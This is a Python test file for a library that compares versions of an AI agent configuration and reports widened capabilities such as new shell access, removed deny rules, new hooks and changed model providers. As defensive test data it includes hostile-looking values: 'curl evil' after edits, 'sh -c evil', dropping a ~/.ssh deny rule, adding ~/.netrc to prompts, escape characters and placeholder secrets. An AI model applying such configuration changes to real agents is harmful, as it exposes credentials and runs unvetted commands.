"""What another version of an agent may do: found, never left out, and never more than is there."""

from __future__ import annotations

import copy
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator, Mapping
from functools import cache
from types import MappingProxyType
from typing import Any, NamedTuple

import pytest
from hypothesis import given
from hypothesis import strategies as st
from vectors import DATA, MISSING

from lading import compare_agents
from lading.agents.capabilities import Capabilities, Change, Comparison, capabilities, compare
from lading.agents.definition import Document, Tree, read_document
from lading.agents.document import parse_document
from lading.agents.fields import AGENT, DOCUMENT, SCRIPT, TOOL
from lading.agents.tools import KNOWN
from lading.agents.wording import fit, text_diff
from lading.errors import InvalidDocument

AGENTS = sorted((DATA / "data" / "agents").glob("*.yaml"))
each_agent = pytest.mark.parametrize("path", AGENTS or [None], ids=lambda path: path.stem if path else "missing")


def read(text: str) -> Capabilities:
    return capabilities(parse_document(text.encode()))


def said(changes: tuple[Change, ...]) -> list[str]:
    return [f"{change.agent or '*'} {change}" for change in changes]


def tools(*toolsets: str) -> str:
    """An agent with these toolsets."""
    return "agents:\n  root:\n    toolsets:\n" + "".join(f"      - {toolset}\n" for toolset in toolsets)


def root(fields: str) -> str:
    """An agent with these fields."""
    return f"agents: {{root: {{{fields}}}}}"


class Case(NamedTuple):
    id: str
    old: str
    new: str
    gained: list[str] = []  # noqa: RUF012
    lost: list[str] = []  # noqa: RUF012
    changed: list[str] = []  # noqa: RUF012


GITHUB = "MCP server docker:github"
MODELS = """\
models:
  a: {provider: openai, model: a}
  same: {provider: openai, model: b}
  far: {provider: openai, base_url: 'https://far.example'}
  first: {first_available: [xai/x, a]}
"""

CASES = [
    # Toolsets
    Case("shell", tools("{type: fetch}"), tools("{type: fetch}", "{type: shell}"), ["root shell"]),
    Case("filesystem is lost", tools("{type: filesystem}"), tools(), [], ["root filesystem"]),
    Case(
        "harmless ones",
        tools(),
        tools("{type: think}", "{type: todo, shared: true}", "{type: memory, path: ./m.db}", "{type: user_prompt}"),
        ["root think", "root todo: shared: true", "root memory: path: ./m.db", "root user_prompt"],
    ),
    Case("memory elsewhere", tools(), tools("{type: memory, path: /etc/m.db}"), ["root memory: path: `/etc/m.db`"]),
    Case(
        "a path is widened",
        tools("{type: memory, path: ./data/m.db}"),
        tools("{type: memory, path: ./m.db}"),
        ["root memory: path: `./m.db`, was `./data/m.db`"],
    ),
    Case("MCP server by reference", tools(), tools("{type: mcp, ref: docker:github}"), [f"root {GITHUB}"]),
    Case(
        "MCP server by command",
        tools(),
        tools("{type: mcp, command: npx, args: [-y, '@acme/server'], env: {TOKEN: $TOKEN, KEY: s3cret}}"),
        ["root MCP server `npx -y @acme/server`: env TOKEN: $TOKEN; env KEY"],
    ),
    Case(
        "MCP server with other arguments is another one",
        tools("{type: mcp, command: npx, args: [a]}"),
        tools("{type: mcp, command: npx, args: [b]}"),
        ["root MCP server `npx b`"],
        ["root MCP server `npx a`"],
    ),
    Case(
        "MCP server at a URL",
        tools(),
        tools("{type: mcp, remote: {url: 'https://u:p4ss@mcp.example.com/sse?key=k', headers: {X-Team: t}}}"),
        ["root MCP server https://mcp.example.com/sse?…: remote.headers X-Team"],
    ),
    Case(
        "MCP server with another hidden part of its URL",
        tools("{type: mcp, remote: {url: 'https://mcp.example.com/?key=1'}}"),
        tools("{type: mcp, remote: {url: 'https://mcp.example.com/?key=2'}}"),
        ["root MCP server https://mcp.example.com/?…"],
        ["root MCP server https://mcp.example.com/?…"],
    ),
    Case(
        "API",
        tools("{type: api, api_config: {name: x, endpoint: 'https://a.example/x', method: GET}}"),
        tools("{type: api, api_config: {name: x, endpoint: 'https://a.example/x', method: POST}}"),
        ["root API POST https://a.example/x: api_config.name: `x`"],
        ["root API GET https://a.example/x"],
    ),
    Case(
        "OpenAPI and A2A",
        tools(),
        tools("{type: openapi, url: 'https://a.example/o.json'}", "{type: a2a, url: 'https://b.example', name: b}"),
        ["root agent https://b.example (a2a): name: `b`", "root API https://a.example/o.json (openapi)"],
    ),
    Case("LSP server", tools(), tools("{type: lsp, command: gopls}"), ["root LSP server `gopls`"]),
    Case(
        "script tools",
        tools("{type: script, shell: {ip: {cmd: curl a}}}"),
        tools("{type: script, shell: {ip: {cmd: curl b}, ls: {cmd: ls, description: List}}}"),
        ["root script tool ls: cmd: `ls`; description: List", "root script tool ip: cmd: `curl b`, was `curl a`"],
    ),
    Case("unknown type", tools(), tools("{type: teleport}"), ["root toolset teleport"]),
    Case(
        "no type",
        tools(),
        tools("{foo: bar}"),
        ["root toolset, of no type that is written: agents.root.toolsets[0].foo unknown"],
    ),
    Case(
        "listed twice",
        tools("{type: shell}"),
        tools("{type: shell}", "{type: shell}"),
        [],
        [],
        ["root shell: not listed as often as it was"],
    ),
    Case(
        "another order",
        tools("{type: shell}", "{type: fetch}"),
        tools("{type: fetch}", "{type: shell}"),
        [],
        [],
        ["root toolsets: in another order, or written differently"],
    ),
    # Restrictions of toolsets
    Case(
        "a filter is gone",
        tools("{type: mcp, ref: docker:github, tools: [list_issues, get_issue]}"),
        tools("{type: mcp, ref: docker:github}"),
        [f"root {GITHUB}: tools: any, was only list_issues, get_issue"],
    ),
    Case(
        "a filter is empty, which is none",
        tools("{type: mcp, ref: docker:github, tools: [list_issues]}"),
        tools("{type: mcp, ref: docker:github, tools: []}"),
        [f"root {GITHUB}: tools: any, was only list_issues"],
    ),
    Case(
        "a filter is new",
        tools("{type: shell}"),
        tools("{type: shell, tools: [shell]}"),
        [],
        ["root shell: tools: only shell"],
    ),
    Case(
        "a filter lets other tools pass",
        tools("{type: filesystem, tools: [read_file, list_directory]}"),
        tools("{type: filesystem, tools: [read_file, write_file]}"),
        ["root filesystem: tools: write_file, too"],
        ["root filesystem: tools: no longer list_directory"],
    ),
    Case(
        "domains",
        tools("{type: fetch, allowed_domains: [docker.com]}"),
        tools("{type: fetch, blocked_domains: [evil.example], allow_private_ips: true}"),
        ["root fetch: allowed_domains: any, was only docker.com", "root fetch: allow_private_ips: on"],
        ["root fetch: blocked_domains: evil.example"],
    ),
    Case(
        "directories",
        tools("{type: filesystem, allow_list: ['.'], deny_list: [~/.ssh]}"),
        tools("{type: filesystem, allow_list: ['.', '~']}"),
        ["root filesystem: allow_list: ~, too", "root filesystem: deny_list: no longer ~/.ssh"],
    ),
    Case(
        "switches that confine",
        tools("{type: filesystem, readonly: true}"),
        tools("{type: filesystem, ignore_vcs: false}"),
        ["root filesystem: readonly: off", "root filesystem: ignore_vcs: off"],
    ),
    Case(
        "a switch that isn't one",
        tools("{type: shell}"),
        tools("{type: shell, sudo_askpass: maybe}"),
        ["root shell: sudo_askpass: maybe"],
    ),
    Case(
        "commands after edits",
        tools("{type: filesystem, post_edit: [{path: '*.go', cmd: gofmt}]}"),
        tools("{type: filesystem, post_edit: [{path: '*.go', cmd: curl evil}]}"),
        ["root filesystem: after edits of *.go runs `curl evil`"],
        ["root filesystem: no longer after edits of *.go runs `gofmt`"],
    ),
    Case(
        "environment: what is gone may have been a restriction",
        tools("{type: mcp, ref: docker:github, env: {GITHUB_READ_ONLY: '1', A: x}}"),
        tools("{type: mcp, ref: docker:github, env: {A: y, B: '${env.B}'}}"),
        [
            f"root {GITHUB}: env A: changed",
            f"root {GITHUB}: env B: ${{env.B}}",
            f"root {GITHUB}: env GITHUB_READ_ONLY: gone",
        ],
    ),
    Case(
        "configuration: where, but not what",
        tools("{type: mcp, ref: docker:github, config: {db: {user: a, password: s3cret}}}"),
        tools("{type: mcp, ref: docker:github, config: {db: {user: b, password: s3cret}}}"),
        [f"root {GITHUB}: config.db.user: changed"],
    ),
    Case(
        "the name of a server, which permissions go by",
        tools("{type: mcp, ref: docker:github, name: gh}"),
        tools("{type: mcp, ref: docker:github, name: hub}"),
        [f"root {GITHUB}: name: `hub`, was `gh`"],
    ),
    Case("a timeout", tools("{type: fetch}"), tools("{type: fetch, timeout: 5}"), [], [], ["root fetch: timeout: 5"]),
    # Definitions
    Case(
        "a definition, and who uses it",
        "agents: {root: {}, b: {}}",
        "mcps: {gh: {ref: docker:github}}\nagents: {root: {toolsets: [{type: mcp, ref: gh}]}, b: {}}",
        [f"root {GITHUB}"],
    ),
    Case(
        "a toolset that moves into a definition is the same",
        tools("{type: mcp, ref: docker:github, tools: [a]}"),
        "mcps: {gh: {ref: docker:github, tools: [a]}}\n" + tools("{type: mcp, ref: gh}"),
        [],
        [],
        ["root toolsets: in another order, or written differently", "* mcps.gh: new"],
    ),
    Case(
        "a definition becomes another server",
        "mcps: {gh: {ref: docker:github}}\n" + tools("{type: mcp, ref: gh}"),
        "mcps: {gh: {command: sh, args: [-c, evil]}}\n" + tools("{type: mcp, ref: gh}"),
        ["root MCP server `sh -c evil`"],
        [f"root {GITHUB}"],
    ),
    Case(
        "a definition is widened",
        "mcps: {gh: {ref: docker:github, tools: [a]}}\n" + tools("{type: mcp, ref: gh}"),
        "mcps: {gh: {ref: docker:github}}\n" + tools("{type: mcp, ref: gh}"),
        [f"root {GITHUB}: tools: any, was only a"],
    ),
    Case(
        "a definition that nobody is seen to use",
        "mcps: {gh: {ref: docker:github, tools: [a]}}\n" + tools("{type: mcp, ref: gh, tools: [b]}"),
        "mcps: {gh: {ref: docker:github}, x: {command: x}}\n" + tools("{type: mcp, ref: gh, tools: [b]}"),
        [f"* {GITHUB} (mcps.gh): tools: any, was only a", "* MCP server `x` (mcps.x)"],
    ),
    Case(
        "an empty filter is that of the definition",
        "mcps: {gh: {ref: docker:github, tools: [a]}}\n" + tools("{type: mcp, ref: gh}"),
        "mcps: {gh: {ref: docker:github, tools: [a]}}\n" + tools("{type: mcp, ref: gh, tools: []}"),
        [],
        [],
        ["root toolsets: in another order, or written differently"],
    ),
    Case(
        "variables of a definition and of its use",
        "mcps: {gh: {ref: docker:github, env: {A: $A, C: $C}}}\n" + tools("{type: mcp, ref: gh, env: {B: $B}}"),
        "mcps: {gh: {ref: docker:github, env: {C: $D}}}\n" + tools("{type: mcp, ref: gh, env: {B: $B}}"),
        [f"root {GITHUB}: env C: $D instead", f"root {GITHUB}: env A: gone"],
    ),
    Case(
        "a definition goes with its use",
        "mcps: {gh: {ref: docker:github}}\n" + tools("{type: mcp, ref: gh}"),
        tools(),
        [],
        [f"root {GITHUB}"],
    ),
    Case(
        "a definition is widened where the last use of it is gone",
        "mcps: {gh: {ref: docker:github, tools: [a]}}\n" + tools("{type: mcp, ref: gh}"),
        "mcps: {gh: {ref: docker:github}}\n" + tools(),
        [f"* {GITHUB} (mcps.gh): tools: any, was only a"],
        [f"root {GITHUB}"],
    ),
    Case(
        "a name that isn't defined",
        tools(),
        tools("{type: mcp, ref: gh}"),
        ["root MCP server gh, which is not defined"],
    ),
    Case(
        "reusable toolsets",
        "toolsets: {dev: {type: filesystem, readonly: true}}\nagents: {root: {use_toolsets: [dev]}}",
        "toolsets: {dev: {type: filesystem}, sh: {type: shell}}\nagents: {root: {use_toolsets: [dev, sh]}}",
        ["root shell", "root filesystem: readonly: off"],
    ),
    Case(
        "RAG sources",
        "rag: {docs: {docs: [./a]}}\nagents: {root: {rag: [docs]}}",
        "rag: {docs: {docs: [./a, /etc]}, more: {docs: [./b]}}\nagents: {root: {rag: [docs, more]}}",
        ["root RAG source more: docs: ./b", "root RAG source docs: docs: /etc"],
    ),
    # Permissions
    Case(
        "permissions are widened",
        "permissions: {allow: [read_*], deny: [shell, 'write_*'], ask: [fetch]}",
        "permissions: {allow: [read_*, 'shell:cmd=ls*'], deny: ['write_*']}",
        [
            "* permissions: allow shell:cmd=ls*",
            "* permissions: no longer deny shell",
            "* permissions: no longer ask before fetch",
        ],
    ),
    Case(
        "permissions are narrowed",
        "permissions: {allow: [a]}",
        "permissions: {deny: [b], ask: [c]}",
        [],
        ["* permissions: no longer allow a", "* permissions: deny b", "* permissions: ask before c"],
    ),
    Case(
        "no permissions at all", "permissions: {deny: [shell]}", "agents: {}", ["* permissions: no longer deny shell"]
    ),
    Case(
        "another order of permissions",
        "permissions: {deny: [a, b]}",
        "permissions: {deny: [b, a]}",
        [],
        [],
        ["* permissions: deny: written differently, to the same effect"],
    ),
    Case(
        "how much is asked",
        "runtime: {safety: balanced, sandbox: true}\n" + root("safety: autonomous"),
        "runtime: {safety: autonomous, network_allowlist: [a.example]}\n" + root("safety: strict"),
        [
            "* runtime: sandbox: off",
            "* runtime: network_allowlist: a.example",
            "* runtime: safety: autonomous, was balanced",
        ],
        ["root safety: strict, was autonomous"],
    ),
    # Agents
    Case(
        "sub-agents, and those outside first",
        "agents: {root: {sub_agents: [a]}, a: {}, b: {}}",
        f"agents: {{root: {{sub_agents: [b, acme/pirate, 'rev:ghcr.io/acme/rev@sha256:{'0' * 64}'],"
        " handoffs: ['https://u:p4ss@x.example/a?k=v']}, a: {}, b: {}}",
        [
            "root sub-agent docker.io/acme/pirate:latest: outside the document, not pinned",
            f"root sub-agent rev (ghcr.io/acme/rev@sha256:{'0' * 64}): outside the document",
            "root handoff to https://x.example/a?…: outside the document, at a URL",
            "root sub-agent b",
        ],
        ["root sub-agent a"],
    ),
    Case(
        "a name that stood for an agent here and stands for one elsewhere",
        "agents: {root: {sub_agents: [acme/b]}, acme/b: {}}",
        "agents: {root: {sub_agents: [acme/b]}}",
        ["root sub-agent docker.io/acme/b:latest: outside the document, not pinned"],
        ["root sub-agent acme/b", "acme/b agent"],
    ),
    Case(
        "a new agent",
        root("model: openai/x"),
        "agents: {root: {model: openai/x}, b: {model: openai/y, readonly: true, toolsets: [{type: shell}]}}",
        ["b agent: new; model: openai/y; readonly: on", "b shell"],
    ),
    Case(
        "an agent is gone",
        "agents: {root: {}, b: {toolsets: [{type: shell}, {type: fetch}]}}",
        "agents: {root: {}}",
        [],
        ["b agent: with shell, fetch"],
    ),
    Case(
        "another agent runs",
        "agents: {a: {}, b: {}}",
        "agents: {b: {}, a: {}}",
        ["* the agent that runs: b, was a"],
    ),
    Case(
        "switches of an agent",
        root("add_environment_info: true"),
        root("code_mode_tools: true, redact_secrets: false"),
        ["root code_mode_tools: on", "root redact_secrets: off"],
        ["root add_environment_info: off"],
    ),
    Case("more iterations", root("max_iterations: 5"), root("max_iterations: 50"), ["root max_iterations: 50, was 5"]),
    Case("fewer iterations", root(""), root("max_iterations: 5"), [], ["root max_iterations: 5, was no limit"]),
    Case("without end", root("max_iterations: 5"), root("max_iterations: 0"), ["root max_iterations: no limit, was 5"]),
    Case(
        "files in the prompt",
        root("add_prompt_files: [a]"),
        root("add_prompt_files: [a, ~/.netrc]"),
        ["root add_prompt_files: ~/.netrc"],
    ),
    Case(
        "a budget is gone",
        "budgets: {b: {max_cost: 1}}\n" + root("budgets: [b]"),
        root(""),
        ["root budgets: no longer b", "* budget b: gone"],
    ),
    Case(
        "skills",
        root("skills: [git]"),
        root("skills: [local, 'https://s.example/?k=v']"),
        ["root skills: from https://s.example/?…", "root skills: any, was only git"],
    ),
    Case("skills are switched on", root("skills: false"), root("skills: true"), ["root skills: from local"]),
    Case(
        "commands that run something",
        root("commands: {a: 'Say hello', b: 'Say bye'}"),
        root("commands: {a: 'Say !`whoami`', c: {instruction: Hi, url: 'https://x.example'}}"),
        ["root command /a: runs `!`whoami``", "root command /c: url: `https://x.example`"],
        [],
        ["root command /b: gone"],
    ),
    Case(
        "hooks",
        root("hooks: {session_start: [{type: command, command: a}]}"),
        root(
            "hooks: {pre_tool_use: [{matcher: shell, hooks: [{type: command, command: b}]}],"
            " session_start: [{type: command, command: c}]}"
        ),
        ["root hook pre_tool_use (shell): runs `b`", "root hook session_start: command: `c`, was `a`"],
    ),
    Case(
        "a hook that could refuse is gone",
        root(
            "hooks: {pre_tool_use: [{matcher: shell, hooks: [{type: command, command: check}]}],"
            " session_end: [{command: x}]}"
        ),
        root(""),
        ["root hook pre_tool_use (shell): no longer runs `check`, and could have refused something"],
        ["root hook session_end: no longer runs `x`"],
    ),
    Case("a harness", root(""), root("harness: {type: codex}"), ["root harness"]),
    # Models
    Case(
        "another model of the same provider",
        root("model: openai/a"),
        root("model: openai/b"),
        [],
        [],
        ["root model: openai/b, was openai/a"],
    ),
    Case(
        "another provider",
        root("model: openai/a"),
        root("model: anthropic/b"),
        ["root model: anthropic/b, was openai/a; conversations go to anthropic"],
    ),
    Case(
        "a provider that only another agent used",
        "agents: {root: {model: dmr/a}, b: {model: openai/b}}",
        "agents: {root: {model: openai/a}, b: {model: openai/b}}",
        ["root model: openai/a, was dmr/a; conversations go to openai"],
    ),
    Case(
        "one more of several models",
        root("model: openai/a"),
        root("model: 'openai/a, xai/b'"),
        ["root model: openai/a, xai/b, was openai/a; conversations go to xai"],
    ),
    Case(
        "a model whose definition is at another address, or names another one",
        f"{MODELS}agents: {{root: {{model: a}}, b: {{model: a}}, c: {{model: a}}}}",
        f"{MODELS}agents: {{root: {{model: far}}, b: {{model: first}}, c: {{model: same}}}}",
        [
            "root model: far, was a; conversations go to https://far.example",
            "b model: first, was a; conversations go to xai",
        ],
        [],
        ["c model: same, was a"],
    ),
    Case(
        "a model is with another provider, which others are with already",
        "models: {m: {provider: openai}}\n" + root("model: xai/b"),
        "models: {m: {provider: xai}}\n" + root("model: xai/b"),
        ["* model m: provider: `xai`, was `openai`"],
    ),
    Case(
        "a fallback elsewhere",
        root("model: openai/a"),
        root("model: openai/a, fallback: {models: [openai/b, xai/c]}"),
        ["root fallback: models: openai/b, xai/c; conversations go to xai"],
    ),
    Case(
        "a model at another address",
        "models: {m: {provider: openai, model: a}}\n" + root("model: m"),
        "models: {m: {provider: openai, model: a, base_url: 'https://u:p4ss@proxy.example/v1', token_key: OTHER}}\n"
        + root("model: m"),
        ["* model m: base_url: https://proxy.example/v1", "* model m: token_key: `OTHER`"],
    ),
    Case(
        "a definition takes the place of a model",
        root("model: openai/a"),
        "models: {openai/a: {provider: evil, model: a}}\n" + root("model: openai/a"),
        ["* model openai/a: provider: `evil`; model: a"],
    ),
    Case(
        "one more model of a known provider",
        root("model: openai/a"),
        "models: {m: {provider: openai, model: b}}\n" + root("model: openai/a"),
        [],
        [],
        ["* model m: new; provider: openai; model: b"],
    ),
    Case(
        "a provider",
        "providers: {gw: {base_url: 'https://a.example'}}\n" + root("model: gw/x"),
        "providers: {gw: {base_url: 'https://b.example'}}\n" + root("model: gw/x"),
        ["* provider gw: base_url: https://b.example, was https://a.example"],
    ),
    Case(
        "a temperature",
        "models: {m: {provider: openai, temperature: 0}}",
        "models: {m: {provider: openai, temperature: 1}}",
        [],
        [],
        ["* model m: temperature: 1, was 0"],
    ),
    # What isn't known
    Case(
        "an unknown field of an agent", root(""), root("warp: true"), ["root changed: agents.root.warp: unknown, true"]
    ),
    Case(
        "an unknown field within one",
        root("warp: {a: {b: x, c: y}}"),
        root("warp: {a: {b: x, c: z}}"),
        ["root changed: agents.root.warp.a.c: unknown"],
    ),
    Case("an unknown field is gone", root("warp: 9"), root(""), ["root changed: agents.root.warp: unknown, and gone"]),
    Case(
        "an unknown field of a toolset",
        tools("{type: shell}"),
        tools("{type: shell, warp: 9}"),
        ["root changed: agents.root.toolsets[0].warp: unknown, 9 (of shell)"],
    ),
    Case("an unknown field of nothing", root(""), root("warp: null"), ["root changed: agents.root.warp: unknown"]),
    Case("an unknown field of the document", root(""), "warp: 9\n" + root(""), ["* changed: warp: unknown, 9"]),
    # What is for people
    Case(
        "descriptions",
        root("description: A"),
        "version: 3\nmetadata: {author: Ada, colour: red}\n" + root("description: B"),
        [],
        [],
        ["root description: B, was A", "* metadata: author: Ada", "* metadata: colour: red", "* version: 3"],
    ),
    Case("null instead of nothing", root(""), root("commands: null"), [], [], ["root commands: null"]),
]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_what_is_found(case: Case) -> None:
    found = compare(read(case.old), read(case.new))
    assert (said(found.gained), said(found.lost), said(found.changed)) == (case.gained, case.lost, case.changed)


def test_what_is_harmless_is_no_new_capability() -> None:
    found = compare(read(tools()), read(tools("{type: think}", "{type: memory}", "{type: shell}")))
    assert [change.weight for change in found.gained] == ["harmless", "harmless", "capability"]
    assert said(found.new_capabilities) == ["root shell"]
    assert compare(read(tools()), read(tools("{type: think}"))).summary == "no new capabilities"


def test_it_is_summed_up() -> None:
    new = "warp: 9\nagents: {root: {toolsets: [{type: shell}, {type: mcp, ref: docker:github}, {type: think}]}}"
    found = compare(read(root("")), read(new))
    assert found.summary == "3 new capabilities (1 of them unknown): shell, MCP server docker:github, warp"
    assert compare(read(root("")), read(tools("{type: shell}"))).summary == "1 new capability: shell"
    assert compare(read(new), read(root(""))).summary == "1 new capability (unknown): warp"
    assert compare(read(new), read(new)).summary == "no change"


def test_instructions_are_compared_line_by_line() -> None:
    old = 'agents: {root: {instruction: "Sort.\\nNever edit.\\n"}}'
    new = 'agents: {root: {instruction: "Sort.\\nEdit!\\n", toolsets: [{type: think, instruction: Think.}]}}'
    found = compare(read(old), read(new))
    assert [(change.path, change.diff) for change in found.instructions] == [
        ("agents.root.toolsets[0].instruction", ("+Think.",)),
        ("agents.root.instruction", (" Sort.", "-Never edit.", "+Edit!")),
    ]
    assert not found.new_capabilities


def test_what_an_agent_can_do_is_what_its_names_stand_for() -> None:
    read_ = read("mcps: {gh: {ref: docker:github, tools: [a]}}\n" + tools("{type: mcp, ref: gh}", "{type: think}"))
    assert [(tool.subject, tool.type, tool.definitions) for tool in read_.tools["root"]] == [
        (GITHUB, "mcp", ("mcps.gh",)),
        ("think", "think", ()),
    ]
    assert read_.tools["root"][0].fields["tools"] == ("a",)


def test_contents_are_compared_by_whom_they_were_published() -> None:
    found = compare_agents(b"agents: {root: {}}", b"agents: {root: {toolsets: [{type: shell}]}}")
    assert isinstance(found, Comparison)
    assert said(found.gained) == ["root shell"]
    with pytest.raises(InvalidDocument):
        compare_agents(b"agents: [", b"")


# Real agents


@cache
def real() -> dict[str, Any]:
    """The real agents, as lists and dictionaries that can be changed."""
    return {path.stem: plain(parse_document(path.read_bytes()).tree) for path in AGENTS}


def plain(tree: Tree) -> Any:
    if isinstance(tree, Mapping):
        return {key: plain(value) for key, value in tree.items()}
    return [plain(item) for item in tree] if isinstance(tree, tuple) else tree


def frozen(tree: Any) -> Tree:
    if isinstance(tree, dict):
        return MappingProxyType({key: frozen(value) for key, value in tree.items()})
    return tuple(frozen(item) for item in tree) if isinstance(tree, list) else tree


def document(tree: Any) -> Document | None:
    """Read a tree, or ``None`` if it isn't an agent document any more."""
    try:
        return read_document(frozen(tree))
    except InvalidDocument:
        return None


@each_agent
def test_a_real_agent_is_what_it_is(path: Any) -> None:
    if path is None:
        pytest.skip(MISSING)
    content = path.read_bytes()
    assert compare_agents(content, content) == Comparison()


@each_agent
def test_nothing_in_a_real_agent_is_unknown(path: Any) -> None:
    if path is None:
        pytest.skip(MISSING)
    found = compare_agents(b"agents: {}", path.read_bytes())
    assert found.gained
    assert [str(change) for change in found.changes if change.weight == "unknown"] == []


def test_every_field_of_the_schema_is_known() -> None:
    path = DATA / "data" / "agent-schema.json"
    if not path.exists():
        pytest.skip(MISSING)
    schema = json.loads(path.read_text("utf-8"))
    names = {name: set(part["properties"]) for name, part in schema["definitions"].items() if "properties" in part}
    assert set(schema["properties"]) <= {*DOCUMENT, "agents", "mcps", "rag"}
    assert names["AgentConfig"] <= {*AGENT, "toolsets", "rag", "sub_agents", "handoffs"}
    assert names["Toolset"] | names["MCPToolset"] | names["RAGConfig"] <= set(TOOL)
    assert names["ScriptShellToolConfig"] <= set(SCRIPT)
    assert set(schema["definitions"]["Toolset"]["properties"]["type"]["enum"]) <= KNOWN
    everything = {
        "models": {"m": {**dict.fromkeys(names["ModelConfig"], "1"), "routing": [{"model": "1", "examples": "1"}]}},
        "providers": {"p": dict.fromkeys(names["ProviderConfig"], "1")},
        "permissions": dict.fromkeys(names["PermissionsConfig"], "1"),
        "metadata": dict.fromkeys(names["Metadata"], "1"),
        "agents": {"root": {"fallback": dict.fromkeys(names["FallbackConfig"], "1")}},
    }
    new = document(everything)
    assert new is not None
    found = compare(read("agents: {root: {}}"), capabilities(new))
    assert [str(change) for change in found.changes if "unknown" in str(change)] == []


VALUES: list[Any] = [
    *("x", "true", "false", "0", "99", "", None, "/", "acme/x", "https://u:p4ss@x.example/?k=s3cret", "\x1b[2J\u202e"),
    *({}, [], {"a": "b"}, ["a"], [{"type": "shell"}], {"type": "shell"}, {"root": {"model": "a/b"}}),
]
NAMES = [
    *(
        "warp",
        "tools",
        "permissions",
        "deny",
        "ask",
        "env",
        "model",
        "models",
        "hooks",
        "sub_agents",
        "handoffs",
        "path",
    ),
    *("toolsets", "use_toolsets", "safety", "readonly", "skills", "commands", "ref", "type", "url", "remote", "mcps"),
    *("rag", "instruction", "allow_list", "allowed_domains", "args", "command", "name", "shell", "post_edit", "config"),
    *("base_url", "provider", "budgets", "runtime", "flavors", "metadata", "version", "path", "\x1b]0;x\x07"),
]


def paths(tree: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield path
    inner = tree.items() if isinstance(tree, dict) else enumerate(tree) if isinstance(tree, list) else ()
    for key, value in inner:
        yield from paths(value, (*path, key))


@st.composite
def mutations(draw: st.DrawFn) -> tuple[Any, Any]:
    """A real agent, and what is left of it when one to three nodes are added, removed, changed or moved."""
    old = draw(st.sampled_from(sorted(real())))
    new = copy.deepcopy(real()[old])
    for _ in range(draw(st.integers(1, 3))):
        path = draw(st.sampled_from(list(paths(new))))
        parent = node = new
        for key in path:
            parent, node = node, node[key]
        how = draw(st.sampled_from(["add", "remove", "change", "move", "repeat"]))
        if how == "add" and isinstance(node, dict):
            node[draw(st.sampled_from(NAMES))] = copy.deepcopy(draw(st.sampled_from(VALUES)))
        elif how == "add" and isinstance(node, list):
            node.append(copy.deepcopy(draw(st.sampled_from(VALUES))))
        elif path and how == "change":
            parent[path[-1]] = copy.deepcopy(draw(st.sampled_from(VALUES)))
        elif path and how == "remove":
            del parent[path[-1]]
        elif how == "move" and isinstance(parent, list):
            parent.append(parent.pop(path[-1]))
        elif how == "repeat" and isinstance(parent, list):
            parent.append(copy.deepcopy(node))
        elif path and how == "move":
            parent["moved"] = parent.pop(path[-1])
    return real()[old], new


@pytest.mark.skipif(not AGENTS, reason=MISSING)
@given(mutations())
def test_no_difference_is_left_out(trees: tuple[Any, Any]) -> None:
    old, new = map(document, trees)
    if old is None or new is None:
        return
    for before, after in ((old, new), (new, old)):
        found = compare(capabilities(before), capabilities(after))
        assert bool(found) == (before.tree != after.tree or before.name != after.name)
        for change in found.changes:
            shown = f"{change}{change.subject}{''.join(change.diff)}"
            assert str(change)
            assert "p4ss" not in shown
            assert "s3cret" not in shown
            assert not any(character in shown for character in "\x1b\x07\u202e")
            assert (change.weight != "none") == (change.sign == "gained")
    assert compare(capabilities(new), capabilities(new)) == Comparison()


@pytest.mark.skipif(not AGENTS, reason=MISSING)
@given(st.data())
def test_what_isnt_known_is_a_new_capability_wherever_it_is(data: st.DataObject) -> None:
    old = real()[data.draw(st.sampled_from(sorted(real())))]
    new = copy.deepcopy(old)
    places = [
        new,
        *new["agents"].values(),
        *(toolset for agent in new["agents"].values() for toolset in agent.get("toolsets") or ()),
        *(new.get("mcps") or {}).values(),
        *(new.get("models") or {}).values(),
    ]
    data.draw(st.sampled_from(places))["warp"] = data.draw(st.sampled_from(VALUES))
    before, after = document(old), document(new)
    assert before is not None
    assert after is not None
    found = compare(capabilities(before), capabilities(after))
    assert any("warp" in f"{change.path} {change}" and change.is_new_capability for change in found.changes)


names = st.sampled_from(["root", "a", "b", "acme/c"])
toolsets = st.lists(
    st.fixed_dictionaries(
        {"type": st.sampled_from(["shell", "mcp", "fetch", "think", "script", "rag", "warp"])},
        optional={
            "ref": st.sampled_from(["docker:x", "m", "n"]),
            "tools": st.lists(st.sampled_from("abc"), max_size=3),
            "env": st.dictionaries(st.sampled_from("AB"), st.sampled_from("xy")),
            "shell": st.dictionaries(st.sampled_from("pq"), st.sampled_from([{"cmd": "ls"}, {"cmd": "rm"}, "x", None])),
        },
    ),
    max_size=4,
)
documents = st.fixed_dictionaries(
    {
        "agents": st.dictionaries(
            names,
            st.fixed_dictionaries(
                {},
                optional={
                    "toolsets": toolsets,
                    "sub_agents": st.lists(names, max_size=3),
                    "use_toolsets": st.lists(st.sampled_from(["m", "t"]), max_size=2),
                    "model": st.sampled_from(["m", "openai/x", "evil/x,m"]),
                    "skills": st.sampled_from(["true", "false", ["local", "x"], [{"name": "s", "instructions": "i"}]]),
                },
            ),
            max_size=4,
        )
    },
    optional={
        "mcps": st.dictionaries(
            st.sampled_from(["m", "n"]),
            st.sampled_from(
                [None, {}, {"ref": "docker:x"}, {"command": "x", "env": {"A": "z"}}, {"ref": "m", "tools": ["a"]}]
            ),
        ),
        "toolsets": st.dictionaries(
            st.sampled_from(["m", "t"]), st.sampled_from([{"type": "shell"}, {"type": "mcp", "ref": "m"}, {}])
        ),
        "models": st.dictionaries(
            st.sampled_from(["m", "n"]), st.sampled_from([{"provider": "p"}, {"first_available": ["m", "n"]}])
        ),
        "permissions": st.dictionaries(st.sampled_from(["allow", "deny"]), st.lists(st.sampled_from("ab"), max_size=3)),
    },
)


@given(documents, documents)
def test_generated_documents_differ_where_they_differ(one: Any, other: Any) -> None:
    old, new = document(one), document(other)
    assert old is not None
    assert new is not None
    assert compare(capabilities(old), capabilities(old)) == Comparison()
    assert bool(compare(capabilities(old), capabilities(new))) == (old.tree != new.tree or old.name != new.name)


def test_the_same_is_said_in_every_process() -> None:
    code = (
        "from lading import compare_agents as c;"
        "old = b'agents: {root: {skills: true, model: openai/x}}';"
        'new = b\'agents: {root: {skills: ["https://a", "https://b", "https://c"], model: "p/x,q/y,r/z",\''
        "b' x1: 1, x2: 2, x3: 3}}\\npermissions: {allow: [a, b, c], deny: [d, e]}';"
        "print([str(change) for change in c(old, new).changes])"
